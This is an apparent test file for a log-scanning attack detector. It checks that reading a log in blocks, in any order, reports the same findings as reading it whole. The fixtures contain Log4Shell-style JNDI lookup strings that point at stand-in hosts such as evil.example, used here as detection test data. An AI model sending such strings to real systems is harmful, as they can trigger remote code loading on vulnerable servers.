import { closeSync, mkdtempSync, openSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import fc from 'fast-check'
import { afterAll, expect, test } from 'vitest'
import { type AttackFinding, instantOfEpoch } from '../../core/index.ts'
import { type HuntSink, RecentlyRead, SourceHunt } from '../../hunt/index.ts'
import { batchOf } from './batch.ts'
import { BlockOrder } from './block-order.ts'
import { blocksOf, countLines, readBlock } from './blocks.ts'
import { huntDoors } from './doors.ts'
import { readPlain } from './plain-log.ts'

const folder = mkdtempSync(join(tmpdir(), 'fireline-blocks-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

const nothing = new Uint8Array(0)

function withFile<T>(text: string, work: (fd: number, size: number) => T): T {
  const path = join(folder, 'a.log')
  writeFileSync(path, text)
  const fd = openSync(path, 'r')
  try {
    return work(fd, Buffer.byteLength(text))
  } finally {
    closeSync(fd)
  }
}

function huntInto(found: AttackFinding[], offset = 0): SourceHunt {
  const sink: HuntSink = { finding: (finding) => found.push(finding), gap: () => undefined }
  const start = { offset, lines: 0 }
  const source = { source: 'a.log', relative: 'a.log', around: instantOfEpoch(0), start }
  return new SourceHunt(huntDoors, sink, source, new RecentlyRead())
}

const shown = ({ at, lookup }: AttackFinding): string => `${at.line} ${at.byteOffset} ${lookup.meaning}`

function whole(text: string): readonly string[] {
  const found: AttackFinding[] = []
  withFile(text, (fd, size) => readPlain(fd, size, huntInto(found), () => undefined))
  return found.map(shown)
}

/** As threads do it, but one part after the other, the last one first. */
function inParts(text: string, blockBytes: number): readonly string[] {
  const told: string[] = []
  withFile(text, (fd, size) => {
    const blocks = blocksOf(size, blockBytes, nothing)
    const order = new BlockOrder('a.log', blocks.length, (batch) => {
      for (const event of batch.events()) if (event.is === 'finding') told.push(shown(event.finding))
    })
    for (const block of [...blocks].reverse()) {
      const found: AttackFinding[] = []
      const lines = readBlock(
        fd,
        block,
        (offset) => huntInto(found, offset),
        () => undefined,
      )
      expect(countLines(fd, block, () => undefined)).toBe(lines)
      for (const finding of found) order.told(block.index, batchOf({ is: 'finding', finding }), () => undefined)
      order.done(block.index, lines)
    }
    expect(order.isComplete).toBe(true)
  })
  return told
}

const line = fc.oneof(
  fc.nat(99).map((n) => `GET / \${jndi:ldap://h${n}.example/a} 200`),
  fc.string({ maxLength: 30 }).map((text) => text.replace(/[\n$%&\\]/g, '')),
  fc.constant(''),
  fc.constant('with a carriage return\r'),
  fc.nat(300).map((n) => 'x'.repeat(n)),
)

test('a log that is read in parts, however small, says what it says as a whole, line by line', () => {
  fc.assert(
    fc.property(
      fc.array(line, { minLength: 1, maxLength: 40 }),
      fc.integer({ min: 1, max: 200 }),
      fc.boolean(),
      (lines, blockBytes, ended) => {
        const text = `${lines.join('\n')}${ended ? '\n' : ''}`
        expect(inParts(text, blockBytes)).toEqual(whole(text))
      },
    ),
    { numRuns: 150 },
  )
})

test('lines longer than a part, and longer than a record, are told once, with their place', () => {
  const filler = 'y'.repeat(200_000)
  const lines = Array.from({ length: 12 }, (_, i) =>
    i % 3 === 0 ? `${filler}\${jndi:ldap://long${i}.example/a}${filler}` : `\${jndi:ldap://h${i}.example/a}`,
  )
  const text = lines.join('\n')
  const found = inParts(text, 60_000)

  expect(found).toEqual(whole(text))
  expect(found).toHaveLength(12)
})

test('a name that goes on in the next part is read to its end', () => {
  const text = `${'-'.repeat(90)}\n\${jndi:ldap://evil.exa\nmple/a}\n${'-'.repeat(90)}\n`

  expect(inParts(text, 100)).toEqual(whole(text))
})

test('parts cover a file, each but the last of one size; a log that names its columns is one part', () => {
  const blocks = blocksOf(1_050, 100, nothing)

  expect(blocks).toHaveLength(10)
  expect(blocks.map(({ from }) => from)).toEqual([0, ...blocks.slice(0, -1).map(({ to }) => to)])
  expect(blocks.at(-1)).toEqual({ index: 9, count: 10, from: 900, to: 1_050 })
  expect(blocksOf(1_050, 100, Buffer.from('#Fields: date time'))).toHaveLength(1)
  expect(blocksOf(1_050, 100, Buffer.from('\ufeff#Software: a'))).toHaveLength(1)
  expect(blocksOf(0, 100, nothing)).toHaveLength(1)
})
